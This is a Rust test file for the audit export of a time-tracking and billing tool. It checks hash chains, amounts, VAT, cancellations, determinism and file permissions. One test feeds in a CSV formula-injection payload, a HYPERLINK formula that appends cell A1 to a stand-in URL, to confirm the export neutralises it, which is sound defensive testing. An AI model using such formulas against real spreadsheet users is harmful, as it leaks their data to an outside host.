//! The auditor's export, walked with nothing but a CSV reader, a JSON reader and SHA-256.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};
use stundenbuch::ledger::Event;
use stundenbuch_connectors::clock::Clock as _;

use super::commands::{Desk, text};
use crate::night::house::{House, stundenbuch};
use crate::night::statements::{WEEK, seal};

/// A row by the names of its columns.
type Row = BTreeMap<String, String>;

/// Reads a table as its guide says: semicolons, and one apostrophe that is left away from texts.
fn table(directory: &Path, name: &str) -> Vec<Row> {
    let path = directory.join(format!("{name}.csv"));
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_path(&path)
        .unwrap();
    let header = reader.headers().unwrap().clone();
    let rows = reader.records().map(|record| {
        let record = record.unwrap();
        let cell = |cell: &str| cell.strip_prefix('\'').unwrap_or(cell).to_owned();
        let cells = header.iter().zip(&record);
        cells
            .map(|(name, text)| (name.to_owned(), cell(text)))
            .collect()
    });
    rows.collect()
}

fn hex(bytes: impl AsRef<[u8]>) -> String {
    let bytes = bytes.as_ref().iter();
    bytes.fold(String::new(), |text, byte| text + &format!("{byte:02x}"))
}

fn sha(text: &str) -> String {
    hex(Sha256::digest(text.as_bytes()))
}

fn bytes(hex: &str) -> Vec<u8> {
    let pairs = hex.as_bytes().chunks(2);
    pairs
        .map(|pair| u8::from_str_radix(std::str::from_utf8(pair).unwrap(), 16).unwrap())
        .collect()
}

/// `1234.50` as 123450.
fn cents(text: &str) -> i128 {
    let (whole, fraction) = text.split_once('.').unwrap();
    assert_eq!(fraction.len(), 2, "{text}");
    format!("{whole}{fraction}").parse().unwrap()
}

/// A rate in ten-thousandths.
fn rate(text: &str) -> i128 {
    let (whole, fraction) = text.split_once('.').unwrap();
    format!("{whole}{fraction:0<4}").parse().unwrap()
}

fn number(row: &Row, column: &str) -> i128 {
    row[column].parse().unwrap()
}

/// Recomputes the chain from the columns alone; the hash of each row.
fn chain(directory: &Path) -> BTreeMap<String, String> {
    let mut before = vec![0; 32];
    let mut hashes = BTreeMap::new();
    for (nth, row) in (1_u64..).zip(table(directory, "journal")) {
        let seq: u64 = row["journal_row"].parse().unwrap();
        assert_eq!(seq, nth);
        if !row["payload"].is_empty() {
            assert_eq!(sha(&row["payload"]), row["payload_sha256"], "row {seq}");
        }
        if !row["subject"].is_empty() {
            assert_eq!(sha(&row["subject"]), row["subject_sha256"], "row {seq}");
        }
        let at: i64 = row["at_seconds"].parse().unwrap();
        let mut link = before;
        link.extend(seq.to_be_bytes());
        link.extend(at.to_be_bytes());
        link.extend((row["kind"].len() as u64).to_be_bytes());
        link.extend(row["kind"].as_bytes());
        if row["subject_chained_as"] == "text" {
            link.extend((row["subject"].len() as u64).to_be_bytes());
            link.extend(row["subject"].as_bytes());
        } else {
            link.extend(bytes(&row["subject_sha256"]));
        }
        link.extend(bytes(&row["payload_sha256"]));
        before = Sha256::digest(&link).to_vec();
        assert_eq!(hex(&before), row["hash"], "row {seq}");
        hashes.insert(row["journal_row"].clone(), row["hash"].clone());
    }
    hashes
}

/// Walks every amount down to what was received, and everything that was billed back up.
fn walk(directory: &Path) {
    let hashes = chain(directory);
    let statements = table(directory, "statements");
    let (lines, entries) = (table(directory, "lines"), table(directory, "entries"));
    let vat = table(directory, "vat");
    let revisions = table(directory, "revisions");
    let by_row: BTreeMap<&str, &Row> = revisions
        .iter()
        .map(|row| (row["journal_row"].as_str(), row))
        .collect();
    let received: BTreeMap<String, Row> = table(directory, "received")
        .into_iter()
        .map(|row| (row["received"].clone(), row))
        .collect();
    assert!(!statements.is_empty() && !entries.is_empty());
    for statement in &statements {
        let number_of = &statement["statement"];
        let of = |rows: &[Row]| -> Vec<Row> {
            let mine = rows.iter().filter(|row| row["statement"] == *number_of);
            mine.cloned().collect()
        };
        assert_eq!(hashes[&statement["printed_row"]], statement["printed_hash"]);
        let mut net = 0;
        for line in of(&lines) {
            let exact = number(&line, "billed_seconds") * rate(&line["rate"]);
            // Seconds × ten-thousandths: 360,000 of them are a cent; half a cent goes outwards.
            let rounded = (2 * exact.abs() + 360_000) / 720_000 * exact.signum();
            assert_eq!(rounded, cents(&line["amount"]));
            net += cents(&line["amount"]);
            let parts = of(&entries)
                .into_iter()
                .filter(|row| row["line"] == line["line"]);
            let tracked: i128 = parts.map(|row| number(&row, "tracked_seconds")).sum();
            assert_eq!(tracked, number(&line, "tracked_seconds"));
        }
        assert_eq!(net, cents(&statement["net"]));
        let tax: i128 = of(&vat).iter().map(|row| cents(&row["vat"])).sum();
        assert_eq!(net + tax, cents(&statement["gross"]));
        let all: i128 = of(&entries)
            .iter()
            .map(|row| number(row, "tracked_seconds"))
            .sum();
        assert_eq!(all, number(statement, "tracked_seconds"));
        for entry in of(&entries) {
            let revision = by_row[entry["revision"].as_str()];
            // What a cancellation takes back is what the other one billed.
            let sign = if statement["cancels"].is_empty() {
                1
            } else {
                -1
            };
            assert_eq!(
                sign * number(revision, "seconds"),
                number(&entry, "tracked_seconds")
            );
            assert_eq!(
                format!("w{}", revision["work"].trim_start_matches('w')),
                entry["work"]
            );
            assert!(hashes.contains_key(&revision["journal_row"]));
            let source = &received[&revision["received"]];
            assert_eq!(sha(&source["body"]), revision["received_sha256"]);
            assert_eq!(source["sha256"], revision["received_sha256"]);
        }
    }
    // And back: a state is billed by at most one statement that stands, and what was received
    // belongs to a state.
    let stands = |entry: &&Row| {
        let mut mine = statements
            .iter()
            .filter(|it| it["statement"] == entry["statement"]);
        mine.all(|it| it["cancels"].is_empty() && it["cancelled_by"].is_empty())
    };
    let standing = entries
        .iter()
        .filter(stands)
        .map(|row| row["revision"].as_str());
    let billed: BTreeSet<&str> = standing.clone().collect();
    assert_eq!(billed.len(), standing.count());
    for (id, source) in &received {
        let named: Vec<&Row> = revisions
            .iter()
            .filter(|row| row["received"] == *id)
            .collect();
        assert!(!named.is_empty(), "received record {id} is of no revision");
        for revision in named {
            assert_eq!(revision["received_sha256"], source["sha256"]);
        }
    }
}

/// Every value of the JSON is the value of the table.
fn json_says_the_same(directory: &Path) {
    let text = fs::read_to_string(directory.join("audit.json")).unwrap();
    let json: Value = serde_json::from_str(&text).unwrap();
    let tables = json["tables"].as_object().unwrap();
    assert_eq!(tables.len(), 12);
    for (name, rows) in tables {
        let csv = table(directory, name);
        let rows = rows.as_array().unwrap();
        assert_eq!(rows.len(), csv.len(), "{name}");
        for (row, cells) in rows.iter().zip(&csv) {
            for (column, cell) in cells {
                let value = match &row[column] {
                    Value::Null => String::new(),
                    Value::String(text) => text.clone(),
                    number => number.to_string(),
                };
                assert_eq!(value, *cell, "{name}.{column}");
            }
        }
    }
    let last = table(directory, "journal").pop().unwrap();
    assert_eq!(json["head"]["hash"], last["hash"].as_str());
}

fn files(directory: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let entries = fs::read_dir(directory)
        .unwrap()
        .map(|entry| entry.unwrap().path());
    entries
        .map(|path| (path.file_name().unwrap().into(), fs::read(&path).unwrap()))
        .collect()
}

/// `index.xml` names the tables and columns that there are, in their order.
fn index_is_right(directory: &Path) {
    let xml = fs::read_to_string(directory.join("index.xml")).unwrap();
    let mut columns = 0;
    for (name, bytes) in files(directory) {
        if name.extension().is_none_or(|ending| ending != "csv") {
            continue;
        }
        let text = String::from_utf8(bytes).unwrap();
        let name = name.to_string_lossy();
        let at = xml.find(&format!("<URL>{name}</URL>")).unwrap();
        let mut rest = &xml[at..];
        for column in text.lines().next().unwrap().split(';') {
            let at = rest.find(&format!("<Name>{column}</Name>"));
            rest = &rest[at.unwrap_or_else(|| panic!("{name} {column}"))..];
            columns += 1;
        }
        assert!(
            !text.contains('\r') && !text.starts_with('\u{feff}'),
            "{name}"
        );
    }
    let declared = xml.matches("<VariableColumn>").count();
    let keys = xml.matches("<VariablePrimaryKey>").count();
    assert_eq!(declared + keys, columns);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_amount_leads_to_what_was_received_and_back() {
    let mut house = House::new(WEEK).await;
    house.night().await;
    for day in ["2026-08-20", "2026-08-21", "2026-08-22"] {
        seal(&mut house, day).unwrap();
    }
    house.night().await;
    let (one, two) = (
        house.dir.path().join("audit"),
        house.dir.path().join("again"),
    );
    for directory in [&one, &two] {
        let output = stundenbuch(&house, &["export", "--audit", directory.to_str().unwrap()]).await;
        let errors = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(0), "{errors}");
    }
    walk(&one);
    json_says_the_same(&one);
    index_is_right(&one);
    assert!(
        files(&one) == files(&two),
        "the same ledger gives the same bytes"
    );
    assert_eq!(table(&one, "statements").len(), 3);
    assert_eq!(table(&one, "deliveries").len(), 6);
    assert_eq!(table(&one, "configuration").len(), 5);
    let sums = fs::read_to_string(one.join("SHA256SUMS")).unwrap();
    for (name, bytes) in files(&one) {
        let mode = fs::metadata(one.join(&name)).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600, "{}", name.display());
        if name != Path::new("SHA256SUMS") {
            let line = format!("{}  {}\n", hex(Sha256::digest(&bytes)), name.display());
            assert!(sums.contains(&line), "{line}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_part_is_whole_in_itself_and_tells_nothing_else() {
    let mut house = House::new(WEEK).await;
    house.night().await;
    for day in ["2026-08-20", "2026-08-21", "2026-08-22"] {
        seal(&mut house, day).unwrap();
    }
    let directory = house.dir.path().join("audit");
    let to = directory.to_str().unwrap();
    let args = [
        "export",
        "--audit",
        to,
        "--period",
        "2026-08-21..2026-08-21",
        "--client",
        "ahorn",
    ];
    let output = stundenbuch(&house, &args).await;
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    walk(&directory);
    json_says_the_same(&directory);
    let statements = table(&directory, "statements");
    assert_eq!(statements.len(), 1);
    assert_eq!(statements[0]["first_day"], "2026-08-21");
    let entries = table(&directory, "entries").len();
    assert_eq!(table(&directory, "revisions").len(), entries);
    // Of rows that were not selected, only the chain is told.
    let shown = |row: &&Row| row["kind"] == "revision" && !row["payload"].is_empty();
    let journal = table(&directory, "journal");
    assert_eq!(journal.iter().filter(shown).count(), entries);
    assert_eq!(journal.len() as u64, house.rows());
}

#[test]
fn formulas_are_inert_and_texts_come_back() {
    let desk = Desk::new();
    let evil = "=HYPERLINK(\"\"http://x\"\"&A1;\"\"y\"\")";
    desk.write(
        "evil.csv",
        &format!(
            "User,Email,Client,Project,Task,Description,Billable,Start date,Start time,End date,\
             End time,Duration,Tags\nJana,,Müller,+49,,\"{evil}\",Yes,2026-01-20,09:00:00,\
             2026-01-20,10:00:00,01:00:00,\n"
        ),
    );
    desk.fine(&["import", "evil.csv"]);
    desk.fine(&["statement", "seal", "mueller", "-p", "2026-01"]);
    desk.fine(&["export", "--audit", "out"]);
    let raw = fs::read_to_string(desk.path("out/entries.csv")).unwrap();
    assert!(raw.contains("\"'=HYPERLINK(\"\"http"), "{raw}");
    assert!(raw.contains(";'+49;"), "{raw}");
    let entries = table(&desk.path("out"), "entries");
    assert_eq!(entries[0]["description"], evil.replace("\"\"", "\""));
    walk(&desk.path("out"));
    json_says_the_same(&desk.path("out"));
    // A cell of any table that a spreadsheet would run.
    for (name, bytes) in files(&desk.path("out")) {
        if name.extension().is_some_and(|ending| ending == "csv") {
            let mut reader = csv::ReaderBuilder::new()
                .delimiter(b';')
                .from_reader(&bytes[..]);
            for record in reader.records() {
                for cell in &record.unwrap() {
                    let number = cell
                        .trim_start_matches('-')
                        .starts_with(|c: char| c.is_ascii_digit());
                    assert!(
                        number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']),
                        "{}: {cell}",
                        name.display()
                    );
                }
            }
        }
    }
}

#[test]
fn an_export_of_then_is_the_one_that_was_written_then() {
    let desk = Desk::new();
    desk.fine(&["import", "first.csv"]);
    desk.fine(&["statement", "seal", "mueller", "-p", "2026-02"]);
    desk.fine(&["export", "--audit", "then"]);
    let at = text(desk.written());
    desk.fine(&["import", "second.csv"]);
    desk.fine(&["statement", "seal", "mueller", "-p", "2026-01"]);
    desk.fine(&["export", "--audit", "now"]);
    desk.fine(&["export", "--audit", "again", "--as-of", &at]);
    let [then, now, again] = ["then", "now", "again"].map(|name| files(&desk.path(name)));
    assert!(then != now);
    assert!(then == again);
}

#[test]
fn an_export_is_not_written_over_something() {
    let desk = Desk::new();
    desk.fine(&["import", "first.csv"]);
    let output = desk.run(&["export", "--audit", "drive"]);
    assert_eq!(
        output.status.code(),
        Some(0),
        "an empty directory is taken: {output:?}"
    );
    let output = desk.run(&["export", "--audit", "drive"]);
    let errors = String::from_utf8_lossy(&output.stderr).into_owned();
    assert_eq!(
        errors,
        "error: write the export to drive: it is not empty\n\n\
         hint: name a directory that does not exist yet\n"
    );
    assert_eq!(output.status.code(), Some(2));
    for args in [
        ["export", "--audit", "x", "--client", "nobody"],
        ["export", "--client", "mueller", "-p", "2026-01"],
        ["export", "--audit", "x", "-o", "y"],
    ] {
        assert_eq!(desk.run(&args).status.code(), Some(2), "{args:?}");
    }
}

/// A statement with every time and amount negated, as a cancellation has it.
fn negated(value: &Value) -> Value {
    match value {
        Value::Object(members) => members
            .iter()
            .map(|(key, value)| {
                let is_amount =
                    key.ends_with("_seconds") || ["net", "gross", "amount"].contains(&key.as_str());
                let value = match value.as_i64() {
                    Some(number) if is_amount => (-number).into(),
                    _ => negated(value),
                };
                (key.clone(), value)
            })
            .collect(),
        Value::Array(values) => values.iter().map(negated).collect(),
        other => other.clone(),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cancellations_and_corrections_have_their_tables() {
    let mut house = House::new(WEEK).await;
    house.night().await;
    let one = seal(&mut house, "2026-08-20").unwrap().number.unwrap();
    let two = seal(&mut house, "2026-08-21").unwrap().number.unwrap();
    let sealed = house.store.sealed(&two).unwrap().unwrap();
    let work = sealed.works[0].work;
    let now = house.clock.now();
    let line = &sealed.statement.lines[0];
    let correction = json!({
        "work": work, "state": sealed.works[0].revision,
        "changes": [{ "field": "duration", "old": "=1:00", "new": "0:30" }], "entry": null,
        "parts": [{
            "line": 1, "contract": line.contract, "rate": line.rate, "rate_rule": line.rate_rule,
            "tracked_seconds": -1800, "billed_seconds": -1800, "amount": -2950,
            "before_seconds": 3600, "after_seconds": 1800,
        }],
    });
    let mut reversing = negated(&serde_json::to_value(&sealed.statement).unwrap());
    reversing["number"] = "2026-0003".into();
    let cancelled = json!({
        "statement": reversing, "series": sealed.series, "running": 3, "cancels": two,
    });
    house
        .store
        .write(|writer| -> Result<(), stundenbuch::store::Error> {
            let event = Event::read("correction", &correction.to_string()).unwrap();
            writer.append(now, &two, &event)?;
            let event = Event::read("cancelled", &cancelled.to_string()).unwrap();
            writer.append(now, "2026-0003", &event)?;
            Ok(())
        })
        .unwrap();
    // Its work is open again, and billed anew.
    let again = seal(&mut house, "2026-08-21").unwrap().number.unwrap();

    let directory = house.dir.path().join("audit");
    let output = stundenbuch(&house, &["export", "--audit", directory.to_str().unwrap()]).await;
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    walk(&directory);
    json_says_the_same(&directory);
    let of = |row: &Row| ["statement", "kind", "cancels", "cancelled_by"].map(|it| row[it].clone());
    let statements: Vec<_> = table(&directory, "statements").iter().map(of).collect();
    assert_eq!(
        statements,
        [
            [&one, "statement", "", ""],
            [&two, "statement", "", "2026-0003"],
            ["2026-0003", "cancellation", &two, ""],
            [&again, "statement", "", ""],
        ]
    );
    let cancellations = table(&directory, "cancellations");
    assert_eq!(cancellations[0]["cancels"], two);
    let corrections = table(&directory, "corrections");
    assert_eq!(corrections.len(), 1);
    assert_eq!(corrections[0]["amount"], "-29.50");
    assert_eq!(corrections[0]["work"], work.to_string());
    assert!(corrections[0]["changes"].contains("\"=1:00\""));
}
